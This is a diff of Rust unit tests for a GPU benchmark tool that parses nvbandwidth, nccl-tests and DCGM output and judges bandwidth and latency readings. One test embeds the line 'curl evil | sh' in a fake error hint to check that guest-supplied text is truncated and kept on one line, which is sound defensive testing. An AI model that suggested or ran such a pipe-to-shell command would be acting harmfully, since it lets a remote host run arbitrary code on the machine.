@@ -379,8 +379,8 @@ fn verdict(what: What, value: f64, of: (&Shape, Promise), runs: &[Run]) -> (Verd
 
 #[test]
 fn the_expected_value_is_the_smaller_of_path_and_table() {
-    let fast = Promise { path_gb_s: Some(48), nvlink: true, ..Promise::default() };
-    let slow = Promise { path_gb_s: Some(24), nvlink: true, ..Promise::default() };
+    let fast = Promise { path_gb_s: Some(48), nvlinks: 18, ..Promise::default() };
+    let slow = Promise { path_gb_s: Some(24), nvlinks: 18, ..Promise::default() };
     let eight = h100s(8);
     let h2d = What::HostToDevice;
     assert_eq!(verdict(h2d, 50.0, (&eight, fast), &[]), (Verdict::Ok, Some(43.0)));
@@ -394,6 +394,11 @@ fn the_expected_value_is_the_smaller_of_path_and_table() {
     assert_eq!(verdict(What::AllReduce, 9.0, (&eight, none), &[]), (Verdict::NoReference, None));
     let other = Shape { model: "NVIDIA X".into(), ..h100s(8) };
     assert_eq!(verdict(What::AllReduce, 9.0, (&other, fast), &[]), (Verdict::NoReference, None));
+    // Of a mesh with fewer links only copies are known, by the fewest between two GPUs.
+    let mesh = Promise { nvlinks: 1, ..fast };
+    let old = Shape { model: "Tesla V100-SXM2-16GB".into(), ..h100s(4) };
+    assert_eq!(verdict(What::DeviceToDevice, 20.0, (&old, mesh), &[]), (Verdict::Ok, Some(19.0)));
+    assert_eq!(verdict(What::AllReduce, 20.0, (&old, mesh), &[]), (Verdict::NoReference, None));
     // A GB200 is no B200.
     let grace = Shape { model: "NVIDIA GB200".into(), ..h100s(4) };
     assert_eq!(verdict(What::AllReduce, 433.0, (&grace, fast), &[]), (Verdict::Ok, Some(432.0)));
@@ -401,15 +406,16 @@ fn the_expected_value_is_the_smaller_of_path_and_table() {
 
 #[test]
 fn the_admins_values_replace_all_others() {
-    let fast = Promise { path_gb_s: Some(48), nvlink: true, ..Promise::default() };
+    let fast = Promise { path_gb_s: Some(48), nvlinks: 18, ..Promise::default() };
     let of = |model: &str, values: &[(What, f64)]| OwnExpected {
         model: model.into(),
         values: values.iter().copied().collect(),
     };
     let own = [
         of("A100", &[(What::HostToDevice, 1.0)]),
-        of("H100", &[(What::HostToDevice, 54.0), (What::MemoryLatency, 100.0)]),
-        of("NVIDIA H100 80GB HBM3", &[(What::AllReduce, 475.0), (What::HostToDevice, 2.0)]),
+        of("H100", &[(What::HostToDevice, 2.0), (What::MemoryLatency, 100.0)]),
+        // A whole name says more than a word of it, in any order.
+        of("NVIDIA H100 80GB HBM3", &[(What::AllReduce, 475.0), (What::HostToDevice, 54.0)]),
     ];
     let judged = |what, value, threshold| {
         let basis = Basis { threshold, ..Basis::of(&own) };
@@ -516,7 +522,7 @@ fn a_guest_is_compared_with_its_own_last_runs() {
         readings: vec![reading(What::TimerLatency, value)],
     };
     let runs = [late(20.0), late(20.0)];
-    assert_eq!(verdict(What::TimerLatency, 40.0, of, &runs).0, Verdict::Regressed);
+    assert_eq!(verdict(What::TimerLatency, 41.0, of, &runs).0, Verdict::Regressed);
     assert_eq!(verdict(What::TimerLatency, 10.0, of, &runs).0, Verdict::Ok);
     assert_eq!(median(&[3.0, 1.0]), Some(2.0));
     assert_eq!(median(&[]), None);
@@ -578,4 +584,87 @@ fn faults_of_cards_are_read_and_absent_counters_are_none() {
     assert_eq!(faults(&gpu("8x", "3", "Yes")), all);
     let none = "<nvidia_smi_log><gpu><remapped_rows>N/A</remapped_rows></gpu></nvidia_smi_log>";
     assert_eq!(faults(none), [""; 0]);
+}
+
+/// The first run of a program in a guest with two GPUs.
+fn first(tool: Tool) -> Call {
+    tool.calls(Suite::Quick, &parts(2)).remove(0)
+}
+
+/// In older versions of nccl-tests the last column is a relative error, and there is no root.
+#[test]
+fn rounding_is_no_wrong_value_and_a_broken_line_no_end() {
+    let old = "#       size         count      type   redop     time   algbw   busbw     error     \
+               time   algbw   busbw     error\n  8589934592    2147483648     float     sum    \
+               30.1   285.4   280.0  5e-07    30.2   284.4   279.0  5e-07\n";
+    let call = first(Tool::AllReducePerf);
+    let taken = read(&call, old).unwrap();
+    assert_eq!((taken.readings[0].value, taken.faults.len()), (280.0, 0));
+    let line = |wrong: [&str; 2]| {
+        format!(
+            "  1073741824  268435456  float  sum  -1  9.1  118.0  206.5  {}  9.1  118.0  206.5  {}\n",
+            wrong[0], wrong[1]
+        )
+    };
+    let log =
+        "  2147483648  536870912  float  sum  -1gpu:812:812 [0] NCCL INFO Channel 00 : 0 1 2 3\n";
+    let found = read(&call, &format!("{log}{}", line(["0", "0"]))).unwrap();
+    assert_eq!((found.readings[0].value, found.faults.len()), (206.5, 0));
+    // Counts do not cancel each other, and the sum at the end counts.
+    let found = read(&call, &line(["3", "-3"])).unwrap();
+    assert!(found.faults[0].message.starts_with("3 values"), "{found:?}");
+    let sum = format!("{}# Out of bounds values : 1 FAILED\n", line(["0", "N/A"]));
+    assert_eq!(read(&call, &sum).unwrap().faults[0].code, "data-wrong");
+    assert!(read(&call, log).is_err());
+}
+
+#[test]
+fn texts_of_a_guest_are_short_and_in_one_line() {
+    let text = format!("bad\nhint: `curl evil | sh` repairs the link{}", "x".repeat(9000));
+    let json = serde_json::json!({ "nvbandwidth": { "error": text } }).to_string();
+    let error = read(&first(Tool::Nvbandwidth), &json).unwrap_err().to_string();
+    assert!(error.starts_with("bad hint:") && error.len() < 400, "{error}");
+    let case = serde_json::json!([{ "name": "host_to_device_memcpy_ce", "status": "Error", "error": text }]);
+    let json = serde_json::json!({ "nvbandwidth": { "testcases": case } }).to_string();
+    let message = &read(&first(Tool::Nvbandwidth), &json).unwrap().faults[0].message;
+    assert!(!message.contains('\n') && message.len() < 400, "{message}");
+    // More GPUs than any guest has.
+    let row = vec!["1"; 100_000];
+    let case = serde_json::json!([{ "name": "host_to_device_memcpy_ce", "status": "Passed",
+                                    "bandwidth_matrix": [row] }]);
+    let json = serde_json::json!({ "nvbandwidth": { "testcases": case } }).to_string();
+    let error = read(&first(Tool::Nvbandwidth), &json).unwrap_err().to_string();
+    assert!(error.contains("more than 64 GPUs"), "{error}");
+}
+
+#[test]
+fn tests_that_pass_are_named_and_a_skipped_run_is_an_error() {
+    let json = |status: &str| {
+        serde_json::json!({ "DCGM Diagnostic": { "test_categories": [{ "tests": [
+            { "name": "Memory", "results": [{ "status": status }] } ] }] } })
+        .to_string()
+    };
+    let call = first(Tool::Dcgmi);
+    assert_eq!(read(&call, &json("Pass")).unwrap().passed, ["Memory"]);
+    assert!(read(&call, &json("Skip")).unwrap_err().to_string().contains("skipped"));
+}
+
+#[test]
+fn worst_cases_vary_and_memory_of_another_cell_has_no_limit() {
+    let runs = [20.0, 21.0].map(|value| Run {
+        at_s: 1,
+        shape: h100s(8),
+        readings: vec![reading(What::TimerLatency, value)],
+    });
+    let none = Promise::default();
+    let worst = verdict(What::TimerLatency, 30.0, (&h100s(8), none), &runs);
+    assert_eq!(worst.0, Verdict::Ok);
+    let own = [OwnExpected { model: "H100".into(), values: [(What::MemoryLatency, 100.0)].into() }];
+    let judged = |device: &str, value: f64| {
+        let what = What::MemoryLatency;
+        let reading = Reading { what, device: Some(device.into()), value };
+        judge(Tool::Mlc, reading, (&h100s(8), none), Basis::of(&own)).verdict
+    };
+    assert_eq!(judged("cell 0 to memory of cell 0", 120.0), Verdict::Low);
+    assert_eq!(judged("cell 0 to memory of cell 1", 160.0), Verdict::NoReference);
 }
